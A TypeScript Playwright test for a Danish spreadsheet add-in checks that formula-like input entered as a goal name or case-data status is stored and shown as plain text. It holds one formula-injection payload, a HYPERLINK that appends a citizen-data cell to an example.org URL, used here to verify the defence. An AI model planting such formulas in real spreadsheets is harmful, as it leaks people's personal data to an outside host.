/**
 * End to end in Chromium (issue 8): text that looks like a formula stays text. A delmål named
 * =HYPERLINK(…) is saved on "Programteori", and a status =HYPERLINK(…) in the case data appears
 * on "Sammenligning", both shown literally (no link, no formula) in the preview grid.
 */
import type { Browser, Page } from "playwright-core";
import { launchBrowser, openPreview, pageErrors, screenshot } from "./harness";
import { TEMPLATES } from "../../src/core/theory";

const LINK = '=HYPERLINK("https://example.org/?d="&Borgere!A2,"Klik")';

/** Every cell of `sheet` whose value is `text`, with its formula (undefined = a constant). */
async function cellsWith(page: Page, sheet: string, text: string): Promise<{ formula?: string; address: string }[]> {
  return page.evaluate(
    ([name, t]) => {
      type Cell = { value: unknown; formula?: string };
      type Sheet = { getCell(r: number, c: number): Cell | undefined; usedExtent(): { rowCount: number; columnCount: number } };
      const wb = (globalThis as unknown as { __virkningPreview: { getSheet(n: string): Sheet | undefined } }).__virkningPreview;
      const s = wb.getSheet(name);
      const out: { formula?: string; address: string }[] = [];
      const col = (c: number): string => (c >= 26 ? String.fromCharCode(64 + Math.floor(c / 26)) : "") + String.fromCharCode(65 + (c % 26));
      if (!s) return out;
      const ext = s.usedExtent();
      for (let r = 0; r < ext.rowCount; r++)
        for (let c = 0; c < ext.columnCount; c++) {
          const cell = s.getCell(r, c);
          if (typeof cell?.value === "string" && cell.value.includes(t)) out.push({ formula: cell.formula, address: `${col(c)}${r + 1}` });
        }
      return out;
    },
    [sheet, text] as const,
  );
}

async function goTo(page: Page, address: string): Promise<void> {
  const box = page.locator("[data-testid=name-box]");
  await box.click();
  await box.fill(address);
  await box.press("Enter");
}

describe("text that looks like a formula stays text", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
  });

  it("a delmål named =HYPERLINK(…) is saved as text on Programteori", async () => {
    const template = TEMPLATES.find((t) => t.id === "kl-over30-virksomhed") ?? TEMPLATES[0];
    const theory = template.build();
    const page = await openPreview(browser, { pane: "programteori" });
    const pane = page.locator("[data-testid=virkning-pane]");
    await pane.getByRole("button", { name: `Brug skabelon: ${template.title.da}` }).click();
    await pane.getByRole("tab", { name: /^3\.? Delmål/ }).click();
    await pane.getByRole("button", { name: "Tilføj delmål" }).click();
    const card = pane.getByTestId(`theory-item-D${theory.subGoals.length + 1}`);
    await card.getByLabel("Navn").fill(LINK);
    await card.getByRole("checkbox", { name: `${theory.finalGoals[0].id} ${theory.finalGoals[0].name}` }).check();
    await pane.getByRole("button", { name: "Gem i projektmappen" }).click();
    await pane.getByText('Gemt i arkene "Programteori" og "Programteori – diagram".').waitFor();
    const cells = await cellsWith(page, "Programteori", LINK);
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.every((c) => c.formula === undefined)).toBe(true);
    await page.locator('[role=tab][data-sheet="Programteori"]').click();
    await goTo(page, cells[0].address);
    await expect(page.locator(`[data-cell="${cells[0].address}"]`).innerText()).resolves.toBe(LINK);
    expect(pageErrors(page)).toEqual([]);
    await page.close();
  });

  it("a status =HYPERLINK(…) in the case data is shown literally on Sammenligning", async () => {
    const page = await openPreview(browser, { pane: "sammenligning" });
    const pane = page.locator("[data-testid=virkning-pane]");
    await pane.locator("[data-testid=comparison-pane]").waitFor();
    // The status as text in the data (typed with Excel's apostrophe, as an export would hold it).
    await page.locator('[role=tab][data-sheet="Borgere"]').click();
    await goTo(page, "M3");
    await page.locator('[data-cell="M3"]').dblclick();
    await page.keyboard.press("ControlOrMeta+A");
    await page.keyboard.type(`'${LINK}`);
    await page.keyboard.press("Enter");
    await expect(page.locator('[data-cell="M3"]').innerText()).resolves.toBe(LINK);
    await goTo(page, "C5");
    await page.locator('[data-cell="C5"]').click();
    await pane.getByRole("button", { name: "Brug markering" }).click();
    await pane.locator("[data-testid=source-range]").waitFor();
    const classify = pane.getByLabel(`Statusser i data: ${LINK}`);
    await classify.selectOption("valid");
    await pane.getByRole("button", { name: "Beregn", exact: true }).click();
    await pane.locator("[data-testid=written]").waitFor();
    const cells = await cellsWith(page, "Sammenligning", LINK);
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.every((c) => c.formula === undefined)).toBe(true);
    await goTo(page, cells[0].address);
    await expect(page.locator(`[data-cell="${cells[0].address}"]`).innerText()).resolves.toContain(LINK);
    await screenshot(page, "text-is-text.png");
    expect(pageErrors(page)).toEqual([]);
    await page.close();
  });
});
